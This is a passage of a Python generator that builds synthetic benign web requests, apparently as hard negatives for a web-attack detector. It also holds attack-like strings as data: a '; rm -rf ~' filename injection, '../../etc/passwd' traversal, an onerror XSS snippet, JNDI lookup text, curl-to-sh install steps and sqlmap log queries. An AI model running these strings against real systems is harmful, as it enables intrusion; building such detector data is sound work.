def in_h_name(cat, hard):
    nm = ch(
        [
            "Seán O'Sullivan",
            "Mary-Kate D'Souza",
            "Robert Null",
            "Anna Select",
            "Jean-Luc L'Hôpital",
            "Sarah Union-Jones",
        ]
    )
    obj = {"policyholder": {"fullName": nm, "dateOfBirth": "1984-07-19"}, "vehicle": {"registration": "AB12 CDE"}}
    bj(cat, hard, "api.covera.io", "POST", "/api/v1/quotes/prefill", obj, nm, kind="server")


def in_h_calc(cat, hard):
    expr = ch(
        [
            "premium * (1 - ncd) + ipt",
            "base_rate * age_factor > 1.2 ? 'refer' : 'accept'",
            "IF(claims>=2; 'decline'; 'quote')",
            "sum(excess) <= 500 && vehicle.age < 10",
        ]
    )
    obj = {"ruleId": "uw-%d" % rint(100, 999), "expression": expr, "description": "Underwriting rule", "enabled": True}
    bj(cat, hard, "api.covera.io", "PUT", "/admin/underwriting/rules/%d" % rint(100, 999), obj, expr, kind="xhr")


def in_h_search(cat, hard):
    q = ch(
        [
            '"water damage" -flood',
            "claim <30 days",
            "what's 'excess'?",
            "union of policies",
            "drop coverage where car > 10 years",
            "select named driver",
        ]
    )
    bq(cat, hard, "www.evergreen-mutual.com", "/help/search", [("q", q)], "q")


def gen_insurance(cat, n):
    run_gen(
        cat,
        n,
        [in_quote, in_claim, in_lookup, in_contact, in_multipart, in_acord, in_search],
        [in_h_claim, in_h_form, in_h_name, in_h_calc, in_h_search],
    )


# ---------------------------------------------------------------- benign_dating

DAT_HOSTS = ["api.kindredmatch.com", "app.lovelace-dating.io", "m.soulsync.app"]
BIOS = [
    "Coffee snob, trail runner, terrible at karaoke. Looking for someone to explore the Alps with " + "🏔️",
    "Architect by day, amateur baker by night. My sourdough has a name.",
    "Ich liebe Jazz, Kochen und lange Spaziergänge am Rhein.",
    "Amo viajar, la fotografía y los perros. Busco algo serio.",
    "読書とカフェ巡りが好きです。週末は料理をします。",
    "Nurse, runner, plant mom of 27. Ask me about my tomatoes 🍅",
    "Думаю о переезде к морю. Люблю горы и кино.",
    "Teacher. Board games, sushi, rainy Sundays.",
    "Dog person 🐶 | climbing | jazz | bad puns",
    "Cinéphile, je cherche quelqu'un pour le festival de Cannes.",
]


def dt_profile(cat, hard):
    bio = ch(BIOS)
    obj = {
        "bio": bio,
        "interests": R.sample(
            [
                "hiking",
                "jazz",
                "cooking",
                "climbing",
                "photography",
                "travel",
                "yoga",
                "board games",
                "wine",
                "cycling",
            ],
            4,
        ),
        "height": rint(155, 198),
        "lookingFor": ch(["relationship", "friends", "not_sure"]),
        "languages": R.sample(["en", "de", "fr", "es", "ja", "pt"], 2),
    }
    bj(cat, hard, ch(DAT_HOSTS), "PATCH", "/v2/me/profile", obj, bio, kind="mobile")


def dt_discover(cat, hard):
    bq(
        cat,
        hard,
        "api.kindredmatch.com",
        "/v2/discover",
        [
            ("age_min", str(rint(21, 35))),
            ("age_max", str(rint(36, 55))),
            ("distance_km", str(rint(5, 80))),
            ("interests", ",".join(R.sample(["hiking", "jazz", "cooking", "travel", "art"], 2))),
            ("cursor", b64url(rbytes(12))),
        ],
        "interests",
        kind="mobile",
    )


def dt_message(cat, hard):
    txt = ch(
        [
            "Hey! Your dog is adorable 😍",
            "Hi, how was the trip to Lisbon?",
            "Haha same, I can't cook either",
            "Coffee on Saturday? ☕",
            "Hola! ¿Qué tal tu semana?",
            "こんにちは！写真素敵ですね",
            "Salut ! Tu connais un bon resto à Lyon ?",
            "Did you finish that book yet?",
        ]
    )
    obj = {"conversationId": "c_" + ralnum(16, LOWER), "clientMessageId": ruuid(), "type": "text", "text": txt}
    bj(cat, hard, ch(DAT_HOSTS), "POST", "/v2/messages", obj, txt, kind="mobile", style=0)


def dt_photo(cat, hard):
    fn = "IMG_%04d.%s" % (rint(1, 9999), ch(["JPG", "HEIC", "jpeg", "png"]))
    obj = {"filename": fn, "contentType": "image/jpeg", "size": rint(400000, 6000000), "position": rint(0, 5)}
    bj(cat, hard, "api.kindredmatch.com", "POST", "/v2/me/photos/presign", obj, fn, kind="mobile")


def dt_swipe(cat, hard):
    tid = "u_" + ralnum(20)
    obj = {
        "targetId": tid,
        "action": ch(["like", "pass", "superlike"]),
        "source": "discover",
        "ts": rint(1764000000000, 1766000000000),
    }
    bj(cat, hard, "api.kindredmatch.com", "POST", "/v2/swipes", obj, tid, kind="mobile", style=0)


def dt_report(cat, hard):
    reason = ch(["Fake profile photos", "Asked for money", "Inappropriate messages", "Underage?"])
    pairs = [("user_id", ralnum(20)), ("reason", reason), ("details", "Reported from web"), ("block", "1")]
    bf(cat, hard, "app.lovelace-dating.io", "/report", pairs, "reason")


def dt_prompt(cat, hard):
    ans = ch(
        [
            "Two truths and a lie: I've met the Pope, I speak 4 languages, I hate cheese.",
            "My simple pleasure: the first coffee on the balcony.",
            "The way to win me over: homemade pasta.",
            "Mi domingo ideal: mercado, vermut y siesta.",
        ]
    )
    obj = {"promptId": "p_%d" % rint(10, 99), "answer": ans}
    bj(cat, hard, "m.soulsync.app", "PUT", "/api/prompts/answers", obj, ans, kind="mobile")


DAT_HARD = [
    "5'11\", dog dad, 'work hard, nap harder' -- kidding (mostly)",
    "I <3 sushi & bad puns :) ;)",
    "Looking for my +1 for weddings; must love cats > dogs",
    "SELECT * FROM adventures WHERE spontaneous = true; -- software engineer, obviously",
    "If you can't handle me at my <worst>, you don't deserve me at my <best> (jk)",
    "sudo make me a sandwich 🥪 | vim > emacs | tabs not spaces",
    "Me: <insert witty line here>. You: swipe right.",
    "echo 'hi' > you",
    "1=1, we match 😄",
    "Drop a line if you like 'The Union' (the 1997 one, not the new film)",
    "Rules: no <br> in texts, only vibes. And Oxford commas.",
    'My love language is `git commit -m "fix"` at 3am',
]


def dt_h_bio(cat, hard):
    bio = ch(DAT_HARD)
    obj = {"bio": bio, "jobTitle": ch(["Software Engineer", "Data Analyst", "Nurse", "Chef"]), "showAge": True}
    bj(cat, hard, ch(DAT_HOSTS), "PATCH", "/v2/me/profile", obj, bio, kind="mobile")


def dt_h_msg(cat, hard):
    txt = ch(
        [
            "haha you keep your stuff in /etc/hosts? nerd alert",
            "<3 <3 <3",
            "what's your fav movie? mine's 'Select Committee' lol",
            'ok wait -- is it "its" or "it\'s"??',
            "drinks @ 8? or/and dinner?",
            "lol <sarcasm>totally</sarcasm>",
            "I'm 5' 4\" so heels are a must 👠",
            "cat > dog, fight me 😼",
        ]
    )
    obj = {"conversationId": "c_" + ralnum(16, LOWER), "text": txt, "type": "text"}
    bj(cat, hard, ch(DAT_HOSTS), "POST", "/v2/messages", obj, txt, kind="mobile", style=0)


def dt_h_form(cat, hard):
    bio = ch(DAT_HARD)
    pairs = [
        ("display_name", ch(ASCII_PEOPLE).split()[0]),
        ("bio", bio),
        ("age", str(rint(24, 48))),
        ("_token", ralnum(40)),
    ]
    bf(cat, hard, "app.lovelace-dating.io", "/profile/edit", pairs, "bio")


def dt_h_search(cat, hard):
    q = ch(["likes:'jazz' & 'wine'", "<30 km hiking", "O'Neill", "DROP IN yoga", '"coffee" -smoking'])
    bq(cat, hard, "app.lovelace-dating.io", "/search", [("q", q), ("radius", "30")], "q", kind="xhr")


def gen_dating(cat, n):
    run_gen(
        cat,
        n,
        [dt_profile, dt_discover, dt_message, dt_photo, dt_swipe, dt_report, dt_prompt],
        [dt_h_bio, dt_h_msg, dt_h_form, dt_h_search],
    )


# ---------------------------------------------------------------- benign_news

NEWS_HOSTS = ["www.riverside-chronicle.com", "api.dailyledger.news", "cms.nordpost.de", "comments.metrotribune.com"]


def nw_list(cat, hard):
    sec = ch(["world", "politics", "business", "sport", "culture", "science", "opinion", "local"])
    bq(
        cat,
        hard,
        "www.riverside-chronicle.com",
        "/%s" % sec,
        [("page", str(rint(2, 9))), ("ref", ch(["nav", "footer", "hp-rail"])), ("section", sec)],
        "section",
    )


def nw_comment(cat, hard):
    txt = ch(
        [
            "Great reporting, thanks for covering the council meeting.",
            "This is exactly what happened in our town too.",
            "Does anyone know when the new bridge opens?",
            "Sehr guter Artikel, danke!",
            "Muy interesante, gracias por el análisis.",
            "The chart in paragraph 4 is missing a unit.",
            "Finally some good news " + ch(EMOJI),
        ]
    )
    obj = {"articleId": rint(100000, 999999), "parentId": None, "body": txt, "notifyReplies": True}
    bj(cat, hard, "comments.metrotribune.com", "POST", "/api/v1/comments", obj, txt)


def nw_cms(cat, hard):
    html = (
        "<p>%s</p><h2>%s</h2><p>The council will publish the final figures on <strong>%s</strong>, a spokesperson said.</p>"
        % (
            ch(
                [
                    "The city approved a new cycling plan on Tuesday.",
                    "Heavy rain caused flooding across the valley.",
                    "Local bakery wins national award.",
                ]
            ),
            ch(["What happens next", "Background", "Reactions"]),
            iso_date(),
        )
    )
    obj = {
        "title": ch(["Council backs cycling plan", "Floods hit valley towns", "Bakery takes top prize"]),
        "slug": ralnum(8, LOWER),
        "status": "draft",
        "body": html,
        "tags": R.sample(["local", "weather", "politics", "food", "transport"], 2),
        "authorId": rint(10, 300),
    }
    bj(cat, hard, "cms.nordpost.de", "PUT", "/api/articles/%d" % rint(10000, 99999), obj, html)


def nw_rss(cat, hard):
    title = ch(
        [
            "Markets rally as inflation cools",
            "Storm warning for the coast",
            "New museum opens downtown",
            "Elections: what you need to know",
        ]
    )
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><title>Daily Ledger - Top stories</title>'
        "<link>https://www.dailyledger.news/</link><description>Top stories</description><item><title>%s</title><link>https://www.dailyledger.news/%s</link>"
        '<guid isPermaLink="false">%s</guid><pubDate>Mon, 08 Dec 2026 07:%02d:00 GMT</pubDate></item></channel></rss>'
        % (xesc(title), ralnum(10, LOWER), ruuid(), rint(0, 59))
    )
    bx(cat, hard, "ingest.dailyledger.news", "/feeds/partner/ingest", body, body, ctype="application/rss+xml")


def nw_newsletter(cat, hard):
    em = "%s.%s@%s" % (ralnum(5, LOWER), ralnum(6, LOWER), ch(["gmail.com", "web.de", "yahoo.co.uk", "proton.me"]))
    bf(
        cat,
        hard,
        "www.riverside-chronicle.com",
        "/newsletter/subscribe",
        [("email", em), ("lists[]", "morning-briefing"), ("lists[]", "weekend"), ("source", "article-footer")],
        "email",
    )


def nw_search(cat, hard):
    q = ch(["bridge closure", "Bürgermeisterwahl 2026", "school budget", "festival dates", "hospital waiting times"])
    bq(
        cat,
        hard,
        "www.riverside-chronicle.com",
        "/search",
        [("q", q), ("from", iso_date()), ("sort", "newest")],
        "q",
        plus=True,
    )


def nw_track(cat, hard):
    url = "https://www.riverside-chronicle.com/%s/%s-%d" % (
        ch(["world", "local", "sport"]),
        ralnum(8, LOWER),
        rint(1000, 9999),
    )
    obj = {
        "event": "article_read",
        "url": url,
        "scrollDepth": rint(10, 100),
        "readTimeSec": rint(5, 600),
        "subscriber": R.random() < 0.4,
    }
    bj(cat, hard, "api.dailyledger.news", "POST", "/collect", obj, url, style=0)


NEWS_HARD_TITLES = [
    "Union leaders select new chair after drop in membership",
    "Senate votes 52-48 to delete provision from budget bill",
    "'Script' doctors: how Hollywood rewrites its blockbusters",
    "Where's the money? Auditors find 'or else' clause in contract",
    "Alert: <b>bold</b> claims about crime figures don't add up",
    "Exec resigns after 'sleep(5)' tweet goes viral",
    "Insert coin: arcade revival hits high street",
    "OR-7 the wolf: a decade on",
]


def nw_h_title(cat, hard):
    t = ch(NEWS_HARD_TITLES)
    obj = {"title": t, "seoTitle": t[:60], "status": "scheduled", "publishAt": iso_ts()}
    bj(cat, hard, "cms.nordpost.de", "PATCH", "/api/articles/%d" % rint(10000, 99999), obj, t)


def nw_h_embed(cat, hard):
    tw = rint(10**18, 10**19 - 1)
    html = ch(
        [
            '<p>The minister responded on social media:</p><blockquote class="twitter-tweet"><p lang="en" dir="ltr">We will publish the report in full.</p>&mdash; Ministry (@ministry) <a href="https://twitter.com/ministry/status/%d">December 8, 2026</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>'
            % tw,
            '<figure class="video"><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/%s" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe><figcaption>Footage from the scene</figcaption></figure>'
            % ralnum(11),
            '<div class="infogram-embed" data-id="%s" data-type="interactive"></div><script>!function(e,i,n,s){var t="InfogramEmbeds",d=e.getElementsByTagName("script")[0];if(window[t]&&window[t].initialized)window[t].process&&window[t].process();else if(!e.getElementById(n)){var o=e.createElement("script");o.async=1,o.id=n,o.src="https://e.infogram.com/js/dist/embed-loader-min.js",d.parentNode.insertBefore(o,d)}}(document,0,"infogram-async");</script>'
            % ruuid(),
        ]
    )
    obj = {
        "blocks": [
            {"type": "paragraph", "text": "Officials confirmed the figures on Monday."},
            {"type": "embed", "html": html},
        ]
    }
    bj(cat, hard, "cms.nordpost.de", "PUT", "/api/articles/%d/blocks" % rint(10000, 99999), obj, html)


def nw_h_comment(cat, hard):
    txt = ch(
        [
            "This is <b>so</b> wrong... and 2 < 3 people I asked agree",
            "Where's the 'fact-check' on the union numbers?",
            '"Select committee" my foot -- they selected nobody',
            "The -- so-called -- 'experts' were wrong again",
            "Prices up 12% => wages up 3%? hmm",
            "Reminder: comments with <a href> links get held for moderation, so I'll just say: read the report itself",
        ]
    )
    pairs = [
        ("article_id", str(rint(100000, 999999))),
        ("comment", txt),
        ("name", ch(ASCII_PEOPLE)),
        ("_wpnonce", rhex(10)),
    ]
    bf(cat, hard, "www.riverside-chronicle.com", "/wp-comments-post.php", pairs, "comment")


def nw_h_search(cat, hard):
    q = ch(
        [
            '"drop table" meme',
            "union select committee",
            "'or' referendum",
            "<script> film review",
            "1=1 campaign slogan",
            "rm -rf scandal",
        ]
    )
    bq(cat, hard, "www.riverside-chronicle.com", "/search", [("q", q)], "q", plus=True)


def gen_news(cat, n):
    run_gen(
        cat,
        n,
        [nw_list, nw_comment, nw_cms, nw_rss, nw_newsletter, nw_search, nw_track],
        [nw_h_title, nw_h_embed, nw_h_comment, nw_h_search],
    )


# ---------------------------------------------------------------- benign_devtools

DEV_HOSTS = ["api.pipecraft.dev", "ci.forgehub.io", "console.terrabase.cloud", "logs.tracepoint.io"]


def dv_pipeline(cat, hard):
    img = ch(["node:20-alpine", "python:3.12-slim", "golang:1.23", "eclipse-temurin:21-jdk", "ruby:3.3"])
    obj = {
        "name": ch(["build", "test", "lint", "release"]),
        "image": img,
        "env": {"CI": "true", "NODE_ENV": "test"},
        "steps": [
            {"name": "checkout"},
            {"name": "install", "cache": ch(["npm", "pip", "go"])},
            {"name": "test", "timeoutMinutes": rint(5, 30)},
        ],
        "trigger": {"branches": ["main", "release/*"], "events": ["push", "pull_request"]},
    }
    bj(
        cat,
        hard,
        "ci.forgehub.io",
        "PUT",
        "/api/v1/projects/%s/pipelines/%d" % (ralnum(8, LOWER), rint(1, 40)),
        obj,
        img,
    )


def dv_settings(cat, hard):
    font = ch(["JetBrains Mono", "Fira Code", "Cascadia Code", "SF Mono"])
    obj = {
        "editor.fontFamily": font,
        "editor.tabSize": ch([2, 4]),
        "editor.formatOnSave": True,
        "files.exclude": {"**/.git": True, "**/node_modules": True},
        "workbench.colorTheme": ch(["One Dark Pro", "GitHub Light", "Solarized Dark"]),
    }
    bj(cat, hard, "api.pipecraft.dev", "PUT", "/v1/settings-sync/%s" % ruuid(), obj, font, kind="server")


def dv_flags(cat, hard):
    key = "%s-%s" % (
        ch(["new-checkout", "dark-mode", "search", "pricing", "onboarding", "recs", "billing-portal", "sso"]),
        ch(["beta", "v2", "experiment-b", "rollout", "killswitch"]),
    )
    obj = {
        "key": key,
        "enabled": R.random() < 0.5,
        "rollout": {"percentage": rint(0, 100), "stickiness": "userId"},
        "targets": [{"attribute": "country", "operator": "in", "values": ["DE", "AT", "CH"]}],
    }
    bj(cat, hard, "api.pipecraft.dev", "PATCH", "/v1/flags/%s" % key, obj, key)


def dv_logsearch(cat, hard):
    q = ch(
        [
            "service:checkout status:500",
            "level:warn env:staging",
            "trace_id:%s" % rhex(32),
            "host:web-%02d latency_ms:>800" % rint(1, 20),
        ]
    )
    bq(
        cat,
        hard,
        "logs.tracepoint.io",
        "/api/v1/search",
        [("q", q), ("from", "now-15m"), ("to", "now"), ("limit", "200")],
        "q",
        kind="xhr",
    )


def dv_pkg(cat, hard):
    content = json.dumps(
        {
            "name": "@%s/%s" % (ralnum(6, LOWER), ralnum(7, LOWER)),
            "version": "%d.%d.%d" % (rint(0, 4), rint(0, 20), rint(0, 9)),
            "private": True,
            "scripts": {"dev": "vite", "build": "tsc -b && vite build", "test": "vitest run"},
            "dependencies": {"react": "^18.3.1", "react-dom": "^18.3.1"},
            "devDependencies": {"typescript": "~5.6.2", "vite": "^5.4.10"},
        },
        indent=2,
    )
    bm(
        cat,
        hard,
        "api.pipecraft.dev",
        "/v1/projects/import",
        [("project", ralnum(8, LOWER), None, None), ("manifest", content, "package.json", "application/json")],
        content,
        kind="cli",
    )


def dv_k8s(cat, hard):
    img = "registry.terrabase.cloud/%s/%s:%s" % (ralnum(5, LOWER), ch(["api", "worker", "web"]), rhex(7))
    obj = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "api", "namespace": "prod", "labels": {"app": "api"}},
        "spec": {
            "replicas": rint(2, 6),
            "selector": {"matchLabels": {"app": "api"}},
            "template": {
                "metadata": {"labels": {"app": "api"}},
                "spec": {
                    "containers": [
                        {
                            "name": "api",
                            "image": img,
                            "ports": [{"containerPort": 8080}],
                            "resources": {"limits": {"cpu": "500m", "memory": "512Mi"}},
                        }
                    ]
                },
            },
        },
    }
    bj(
        cat,
        hard,
        "console.terrabase.cloud",
        "POST",
        "/api/v1/clusters/%s/apply" % ralnum(6, LOWER),
        obj,
        img,
        kind="cli",
    )


def dv_deploy(cat, hard):
    sha = rhex(40)
    bf(
        cat,
        hard,
        "ci.forgehub.io",
        "/deploys",
        [("environment", ch(["staging", "production"])), ("ref", sha), ("description", "Deploy %s" % sha[:7])],
        "ref",
        kind="cli",
    )


DEV_HARD_STEPS = [
    "curl -sSL https://get.pnpm.io/install.sh | sh -",
    "rm -rf node_modules dist && npm ci && npm run build",
    'echo "//registry.npmjs.org/:_authToken=${{ secrets.NPM_TOKEN }}" > ~/.npmrc',
    "cat /etc/os-release && uname -a",
    "docker build -t app:$(git rev-parse --short HEAD) . && docker push app:$(git rev-parse --short HEAD)",
    "python -c 'import sys; print(sys.version)'",
    "find . -name '*.pyc' -delete; pytest -q --maxfail=1",
    "psql \"$DATABASE_URL\" -c 'SELECT 1;'",
    "if [ \"$GITHUB_REF\" == 'refs/heads/main' ]; then ./deploy.sh prod; fi",
    "wget -qO- https://github.com/golangci/golangci-lint/releases/download/v1.62.0/golangci-lint-1.62.0-linux-amd64.tar.gz | tar xz -C /usr/local/bin --strip-components=1",
]


def dv_h_steps(cat, hard):
    run = ch(DEV_HARD_STEPS)
    obj = {
        "name": "ci",
        "on": {"push": {"branches": ["main"]}},
        "jobs": {
            "build": {
                "runs-on": "ubuntu-24.04",
                "steps": [{"uses": "actions/checkout@v4"}, {"name": "Build", "run": run, "shell": "bash"}],
            }
        },
    }
    bj(cat, hard, "ci.forgehub.io", "PUT", "/api/v1/repos/%s/workflows/ci.yml" % ralnum(8, LOWER), obj, run)


def dv_h_templates(cat, hard):
    tpl = ch(
        [
            'image: "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"',
            'bucket = "${var.project}-${terraform.workspace}-logs"',
            "{{ ansible_facts['os_family'] }} {{ lookup('env', 'HOME') }}",
            "GIT_SHA := $(shell git rev-parse HEAD)",
            'export PATH="$HOME/.local/bin:$PATH"',
            'host: {{ env "DB_HOST" | default "localhost" }}',
            "${{ github.event.pull_request.head.sha }}",
            'resource "aws_s3_bucket" "b" { bucket = "${local.name}-${random_id.x.hex}" }',
        ]
    )
    obj = {
        "path": ch(
            [
                "charts/api/values.yaml",
                "infra/main.tf",
                "roles/web/templates/site.j2",
                "Makefile",
                ".github/workflows/ci.yml",
            ]
        ),
        "line": rint(3, 200),
        "snippet": tpl,
    }
    bj(cat, hard, "api.pipecraft.dev", "POST", "/v1/snippets", obj, tpl)


def dv_h_docker(cat, hard):
    df = (
        "FROM python:3.%d-slim\nWORKDIR /%s\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \\\n"
        "    && rm -rf /var/lib/apt/lists/*\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\n"
        'HEALTHCHECK CMD curl -fsS http://localhost:8000/healthz || exit 1\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:create_app()"]\n'
    ) % (rint(10, 13), ch(["app", "srv", "opt/service"]))
    bm(
        cat,
        hard,
        "ci.forgehub.io",
        "/api/v1/builds",
        [
            ("context", "git@forgehub.io:%s/app.git" % ralnum(6, LOWER), None, None),
            ("dockerfile", df, "Dockerfile", "text/plain"),
        ],
        df,
        kind="cli",
    )


def dv_h_log(cat, hard):
    q = ch(
        [
            "path:/etc/nginx/* AND level:error",
            'message:"DROP TABLE" AND service:migrations',
            'msg:"../" AND status:400',
            "user_agent:*sqlmap* OR user_agent:*nikto*",
            '"<script" AND path:/comments',
            "exception:FileNotFoundException AND path:*\\\\AppData\\\\*",
        ]
    )
    bq(
        cat,
        hard,
        "logs.tracepoint.io",
        "/api/v1/search",
        [("q", q), ("from", "now-24h"), ("to", "now")],
        "q",
        kind="xhr",
    )


def dv_h_migration(cat, hard):
    sql = ch(
        [
            "ALTER TABLE users ADD COLUMN last_login_at timestamptz;\nUPDATE users SET last_login_at = created_at WHERE last_login_at IS NULL;",
            "CREATE INDEX CONCURRENTLY idx_orders_created ON orders (created_at DESC);",
            "DROP TABLE IF EXISTS tmp_import_2024;",
            "SELECT pid, query, state FROM pg_stat_activity WHERE state <> 'idle' ORDER BY query_start;",
        ]
    )
    obj = {
        "name": "%s_%s.sql"
        % (
            iso_date().replace("-", ""),
            ch(["add_last_login", "orders_created_idx", "drop_tmp_import", "inspect_activity"]),
        ),
        "sql": sql,
        "database": ch(["orders", "accounts"]),
        "requiresApproval": True,
    }
    bj(cat, hard, "console.terrabase.cloud", "POST", "/api/v1/db/migrations", obj, sql)


def dv_h_nginx(cat, hard):
    conf = (
        "server {\n    listen 443 ssl;\n    server_name app.example.com;\n    root /var/www/app/public;\n    location / { try_files $uri $uri/ /index.php?$query_string; }\n"
        "    location ~ \\.php$ {\n        fastcgi_pass unix:/run/php/php8.3-fpm.sock;\n        include fastcgi_params;\n        fastcgi_param SCRIPT_FILENAME $realpath_root$fastcgi_script_name;\n    }\n"
        "    location ~ /\\.(?!well-known).* { deny all; }\n}\n"
    )
    obj = {"site": "app.example.com", "config": conf, "validate": True}
    bj(cat, hard, "console.terrabase.cloud", "PUT", "/api/v1/proxies/%s/config" % ralnum(6, LOWER), obj, conf)


def gen_devtools(cat, n):
    run_gen(
        cat,
        n,
        [dv_pipeline, dv_settings, dv_flags, dv_logsearch, dv_pkg, dv_k8s, dv_deploy],
        [dv_h_steps, dv_h_templates, dv_h_docker, dv_h_log, dv_h_migration, dv_h_nginx],
    )


# ---------------------------------------------------------------- benign_code_review

CR_HOSTS = ["git.codeharbor.io", "review.patchwork.dev", "api.mergeflow.com"]
CR_FILES = [
    "src/utils/date.ts",
    "app/models/order.rb",
    "internal/server/handler.go",
    "services/billing/invoice.py",
    "web/src/components/Cart.tsx",
    "lib/parser.rs",
    "src/main/java/com/acme/api/UserController.java",
    "pkg/cache/lru.go",
]


def cr_comment(cat, hard):
    body = ch(
        [
            "Nit: rename `x` to `count` for readability.",
            "Could we add a test for the empty-list case?",
            "LGTM, thanks!",
            "This allocates on every call; consider hoisting it out of the loop.",
            "Can we use `Intl.DateTimeFormat` here instead of the manual formatting?",
            "Bitte noch die Fehlermeldung übersetzen.",
            "Is this still needed after #%d?" % rint(100, 4000),
        ]
    )
    obj = {"body": body, "path": ch(CR_FILES), "line": rint(5, 400), "side": "RIGHT", "commit_id": rhex(40)}
    bj(
        cat,
        hard,
        ch(CR_HOSTS),
        "POST",
        "/api/v3/repos/%s/%s/pulls/%d/comments" % (ralnum(6, LOWER), ralnum(8, LOWER), rint(1, 5000)),
        obj,
        body,
    )


def cr_suggest(cat, hard):
    code = ch(
        [
            "const total = items.reduce((sum, i) => sum + i.price * i.qty, 0);",
            'if err != nil {\n\treturn fmt.Errorf("load config: %w", err)\n}',
            "return [x for x in values if x is not None]",
            "let name = user.name.trim().to_lowercase();",
        ]
    )
    body = "```suggestion\n%s\n```" % code
    obj = {"body": body, "path": ch(CR_FILES), "start_line": rint(5, 100), "line": rint(101, 200)}
    bj(cat, hard, ch(CR_HOSTS), "POST", "/api/v1/reviews/%d/suggestions" % rint(1000, 9999), obj, body)


def cr_approve(cat, hard):
    msg = ch(
        [
            "Approved, nice cleanup.",
            "Looks good once CI is green.",
            "Ship it 🚀",
            "Approving; follow-ups tracked in a separate issue.",
        ]
    )
    bf(
        cat,
        hard,
        "git.codeharbor.io",
        "/%s/%s/pulls/%d/review" % (ralnum(6, LOWER), ralnum(8, LOWER), rint(1, 3000)),
        [("event", "APPROVE"), ("body", msg), ("authenticity_token", ralnum(43))],
        "body",
    )


def cr_commit(cat, hard):
    msg = ch(
        [
            "fix(cart): round totals to 2 decimals\n\nCloses #%d" % rint(100, 999),
            "chore(deps): bump axios from 1.7.4 to 1.7.7",
            "feat(api): add pagination to /orders",
            "refactor: extract invoice renderer",
            "docs: update README with setup steps",
        ]
    )
    obj = {
        "message": msg,
        "tree": rhex(40),
        "parents": [rhex(40)],
        "author": {"name": ch(ASCII_PEOPLE), "email": "%s@example.com" % ralnum(6, LOWER), "date": iso_ts()},
    }
    bj(
        cat,
        hard,
        "api.mergeflow.com",
        "POST",
        "/repos/%s/%s/git/commits" % (ralnum(6, LOWER), ralnum(8, LOWER)),
        obj,
        msg,
        kind="server",
    )


def cr_diffview(cat, hard):
    p = ch(CR_FILES)
    bq(
        cat,
        hard,
        "git.codeharbor.io",
        "/api/v1/diff",
        [("base", rhex(40)), ("head", rhex(40)), ("path", p), ("context", "3")],
        "path",
        kind="xhr",
    )


def cr_patch(cat, hard):
    diff = (
        "diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -10,7 +10,7 @@\n-  const limit = 10;\n+  const limit = Number(process.env.PAGE_SIZE ?? 20);\n   return fetchPage(cursor, limit);\n"
        % ((ch(CR_FILES),) * 2 + (rhex(7), rhex(7)) + (ch(CR_FILES),) * 2)
    )
    bm(
        cat,
        hard,
        "review.patchwork.dev",
        "/api/patches",
        [
            ("series", str(rint(100, 999)), None, None),
            ("patch", diff, "0001-make-page-size-configurable.patch", "text/x-diff"),
        ],
        diff,
        kind="cli",
    )


CR_HARD = [
    'This builds SQL by concatenation: `"SELECT * FROM orders WHERE id = " + req.query.id` -- please switch to a parameterized query (`WHERE id = $1`).',
    "Avoid `eval(userInput)` here; `JSON.parse` is enough for this payload.",
    '`os.system(f"convert {path} out.png")` is injectable if `path` contains `; rm -rf ~`. Use `subprocess.run(["convert", path, "out.png"], check=True)`.',
    "This renders `<script>` tags from the comment body unescaped -- use `textContent` instead of `innerHTML`.",
    "`path.join(UPLOAD_DIR, req.params.name)` lets `../../etc/passwd` escape the upload dir; resolve and check the prefix.",
    "```diff\n- exec(`git checkout ${branch}`)\n+ execFile('git', ['checkout', branch])\n```",
    "Jinja autoescapes `{{ user.name }}`, but `{{ bio|safe }}` doesn't -- is that intended?",
    "The regex `^(a+)+$` is catastrophic on long inputs; can we anchor it differently?",
    "We should not log `${jndi:...}`-style strings raw; the logger is log4j 2.17 now so lookups are off, but still.",
    "Use `DROP TABLE IF EXISTS` in the down migration so it's idempotent.",
    "`<img src=x onerror=...>` in the fixture is intentional, it's the XSS regression test -- please keep it in `__fixtures__/`.",
    "Careful: `yaml.load(f)` without `Loader=SafeLoader` will happily build `!!python/object` tags.",
]


def cr_h_comment(cat, hard):
    body = ch(CR_HARD)
    obj = {"body": body, "path": ch(CR_FILES), "line": rint(5, 400), "side": "RIGHT"}
    bj(
        cat,
        hard,
        ch(CR_HOSTS),
        "POST",
        "/api/v3/repos/%s/%s/pulls/%d/comments" % (ralnum(6, LOWER), ralnum(8, LOWER), rint(1, 5000)),
        obj,
        body,
    )


def cr_h_form(cat, hard):
    body = ch(CR_HARD)
    bf(
        cat,
        hard,
        "git.codeharbor.io",
        "/%s/%s/pulls/%d/comments" % (ralnum(6, LOWER), ralnum(8, LOWER), rint(1, 3000)),
        [("comment[body]", body), ("comment[line]", str(rint(1, 300))), ("authenticity_token", ralnum(43))],
        "comment[body]",
    )


def cr_h_file(cat, hard):
    code = ch(
        [
            'import subprocess\n\ndef thumbnail(path: str) -> None:\n    subprocess.run(["convert", path, "-resize", "200x200", "thumb.png"], check=True)\n',
            "const rows = await db.query('SELECT id, name FROM users WHERE email = $1', [email]);\n",
            "<?php\n$stmt = $pdo->prepare('SELECT * FROM posts WHERE id = :id');\n$stmt->execute(['id' => $_GET['id']]);\n",
            '#!/bin/sh\nset -eu\ncd "$(dirname "$0")/.."\nrm -rf build && mkdir build\n',
        ]
    )
    obj = {"path": ch(CR_FILES), "content": code, "encoding": "utf-8", "message": "Apply review suggestions"}
    bj(
        cat,
        hard,
        "api.mergeflow.com",
        "PUT",
        "/repos/%s/%s/contents/file" % (ralnum(6, LOWER), ralnum(8, LOWER)),
        obj,
        code,
        kind="server",
    )


def cr_h_search(cat, hard):
    q = ch(
        [
            '"innerHTML =" lang:ts',
            "os.system( lang:python",
            '"../" path:*/upload*',
            "exec( NOT execFile",
            '"<script" repo:web',
